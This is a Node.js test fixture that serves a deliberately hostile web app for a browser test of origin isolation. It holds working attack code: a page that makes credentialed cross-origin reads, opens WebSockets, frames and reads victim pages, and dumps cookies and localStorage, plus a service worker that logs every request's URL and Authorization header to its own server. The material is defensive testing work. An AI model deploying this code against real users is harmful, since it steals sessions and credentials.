/**
 * A malicious app, for the browser test of origins: what an attacker would publish as a share
 * link and send to a signed-in victim. Its page (`/?targets=<json>`) tries, from the victim's own
 * browser, everything the shared origin used to allow, and records what it managed in
 * `window.results` (a test reads it):
 *   - read the victim's session and private app (fetch with the browser's cookies), and the API;
 *   - open the victim's kernel and app WebSockets;
 *   - read cookies and storage (the victim's credentials);
 *   - frame the victim's session and read the frame;
 *   - register a service worker (`/sw.js`) over the widest scope it can, which reports every
 *     request it sees to `/captured?url=...` (logged, so a test can tell what it captured).
 * Every request is logged as "<method> <url>". Listens on PORT (LAUNCHPAD_HOST).
 */
import { createServer } from 'node:http';

const port = Number(process.env.PORT);
const host = process.env.LAUNCHPAD_HOST ?? '127.0.0.1';

const PAGE = `<!doctype html><html><head><meta charset="utf-8"><title>Totally harmless dashboard</title></head><body>
<h1>Dashboard</h1><iframe id="frame" style="width:10px;height:10px"></iframe>
<script>
window.results = {};
const targets = JSON.parse(new URLSearchParams(location.search).get('targets') || '{}');
const record = (name, value) => { window.results[name] = value; };
async function read(name, url) {
  try {
    const res = await fetch(url, { credentials: 'include' });
    record(name, 'read ' + res.status + ': ' + (await res.text()).slice(0, 200));
  } catch (error) {
    record(name, 'refused: ' + error.message);
  }
}
function socket(name, url) {
  return new Promise((resolve) => {
    let ws;
    try { ws = new WebSocket(url); } catch (error) { record(name, 'refused: ' + error.message); return resolve(); }
    ws.onopen = () => { record(name, 'opened'); ws.close(); resolve(); };
    ws.onerror = () => { record(name, 'refused'); resolve(); };
  });
}
async function frame(name, url) {
  const el = document.getElementById('frame');
  await new Promise((resolve) => { el.onload = resolve; el.src = url; setTimeout(resolve, 5000); });
  try { record(name, 'read: ' + el.contentDocument.body.innerText.slice(0, 200)); } catch (error) { record(name, 'refused: ' + error.message); }
}
async function worker(name) {
  if (!navigator.serviceWorker) return record(name, 'no service workers here');
  try {
    const reg = await navigator.serviceWorker.register('/sw.js', { scope: '/' });
    await navigator.serviceWorker.ready;
    record(name, 'registered with scope ' + reg.scope);
  } catch (error) {
    record(name, 'refused: ' + error.message);
  }
  // And at the victim's origins: a service worker script from here cannot be registered there.
  for (const [key, url] of Object.entries(targets.workerAt || {})) {
    try { await navigator.serviceWorker.register(url + '/sw.js', { scope: url + '/' }); record(name + ':' + key, 'registered'); }
    catch (error) { record(name + ':' + key, 'refused: ' + error.message); }
  }
}
(async () => {
  for (const [name, url] of Object.entries(targets.read || {})) await read(name, url);
  for (const [name, url] of Object.entries(targets.sockets || {})) await socket(name, url);
  for (const [name, url] of Object.entries(targets.frames || {})) await frame(name, url);
  record('cookies', document.cookie);
  record('storage', JSON.stringify({ ...localStorage }));
  await worker('serviceWorker');
  record('done', true);
})();
</script></body></html>`;

// Reports every request it sees, with its URL and Authorization, to its own server.
const WORKER = `
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (event) => {
  const report = '/captured?url=' + encodeURIComponent(event.request.url) + '&auth=' + encodeURIComponent(event.request.headers.get('authorization') || '');
  if (!event.request.url.includes('/captured')) fetch(report).catch(() => undefined);
});
`;

const server = createServer((req, res) => {
  console.log(`${req.method} ${req.url}`);
  const url = new URL(req.url ?? '/', 'http://app');
  if (url.pathname === '/sw.js') {
    // It asks for a scope beyond its own path too; the gateway drops the header.
    res.writeHead(200, { 'content-type': 'text/javascript', 'service-worker-allowed': '/' });
    return res.end(WORKER);
  }
  if (url.pathname === '/captured') {
    console.log(`captured ${url.searchParams.get('url')} auth=${url.searchParams.get('auth')}`);
    return res.writeHead(204).end();
  }
  res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
  res.end(PAGE);
});
server.listen(port, host, () => console.log(`hostile app listening on ${port}`));
process.on('SIGTERM', () => server.close(() => process.exit(0)));
